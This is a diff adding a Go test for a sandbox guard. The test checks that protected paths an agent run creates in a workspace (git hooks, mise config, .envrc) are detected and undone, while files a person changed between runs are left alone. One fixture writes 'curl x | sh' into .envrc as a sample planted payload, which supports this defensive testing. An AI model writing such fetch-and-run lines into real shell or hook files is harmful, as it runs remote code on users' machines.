@@ -302,3 +302,105 @@ func TestRefreshSurvivesSignals(t *testing.T) {
 		t.Errorf("the watches' generation went from %d to %d while only signals came: a poll interrupted by a signal dropped every kept finding", gen, got)
 	}
 }
+
+// TestGuardAlone checks the guard by itself (no walk beneath the roots'
+// tops, which would catch some of the same plants): a protected path
+// made by the run in a directory that did not exist before it is found
+// (the guard answers absent directories from their parent's kept
+// listing, and must look again once that parent changed), and a guard
+// made again for the same paths (kept from the last run while their
+// directories' stamps stay) sees what changed between the runs: a
+// protected file made or removed by a person between two runs is taken
+// as it is now, and what the second run makes is found.
+func TestGuardAlone(t *testing.T) {
+	tests := []struct {
+		name string
+		// before makes the workspace; between changes it after a first
+		// guard and its undo (nil: nothing), run makes the second
+		// guard's run's changes.
+		before, between, run func(t *testing.T, root string)
+		// want are the paths (relative) the second undo reports.
+		want []string
+	}{
+		{
+			name: "new directory of a protected name",
+			run: func(t *testing.T, root string) {
+				must(t, os.MkdirAll(filepath.Join(root, ".github/hooks"), 0o755))
+				must(t, os.WriteFile(filepath.Join(root, ".github/hooks/pre-commit"), []byte("#!/bin/sh\n"), 0o755))
+			},
+			want: []string{".github/hooks"},
+		},
+		{
+			name: "nested new directories",
+			run: func(t *testing.T, root string) {
+				must(t, os.MkdirAll(filepath.Join(root, ".config"), 0o755))
+				must(t, os.WriteFile(filepath.Join(root, ".config/mise.toml"), []byte("[env]\n"), 0o644))
+			},
+			want: []string{".config/mise.toml"},
+		},
+		{
+			name: "made by a person between runs",
+			between: func(t *testing.T, root string) {
+				must(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("export A=1\n"), 0o644))
+			},
+			run:  func(t *testing.T, root string) {},
+			want: nil,
+		},
+		{
+			name: "removed by a person between runs, made by the run",
+			before: func(t *testing.T, root string) {
+				must(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("export A=1\n"), 0o644))
+			},
+			between: func(t *testing.T, root string) {
+				must(t, os.Remove(filepath.Join(root, ".envrc")))
+			},
+			run: func(t *testing.T, root string) {
+				must(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("curl x | sh\n"), 0o644))
+			},
+			want: []string{".envrc"},
+		},
+		{
+			name: "parent made by a person between runs, file made by the run",
+			between: func(t *testing.T, root string) {
+				must(t, os.Mkdir(filepath.Join(root, ".github"), 0o755))
+			},
+			run: func(t *testing.T, root string) {
+				must(t, os.Mkdir(filepath.Join(root, ".github/hooks"), 0o755))
+			},
+			want: []string{".github/hooks"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			root := t.TempDir()
+			if tt.before != nil {
+				tt.before(t, root)
+			}
+			time.Sleep(racyWindow + 100*time.Millisecond) // the stamps' shortcuts are taken
+			c := &Confinement{Mode: SandboxWorkspaceWrite, Roots: []string{root}}
+			guardOf := func() *guard {
+				var paths []string
+				for _, p := range protectedPaths(c) {
+					paths = append(paths, p.path)
+				}
+				return newGuard(paths, "")
+			}
+			if d := guardOf().undo(); len(d) > 0 {
+				t.Fatalf("a run that changed nothing: %v", d)
+			}
+			if tt.between != nil {
+				tt.between(t, root)
+			}
+			g := guardOf()
+			tt.run(t, root)
+			var got []string
+			for _, d := range g.undo() {
+				rel, _ := filepath.Rel(root, d.Path)
+				got = append(got, rel)
+			}
+			if diff := cmp.Diff(tt.want, got); diff != "" {
+				t.Errorf("paths the guard undid (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
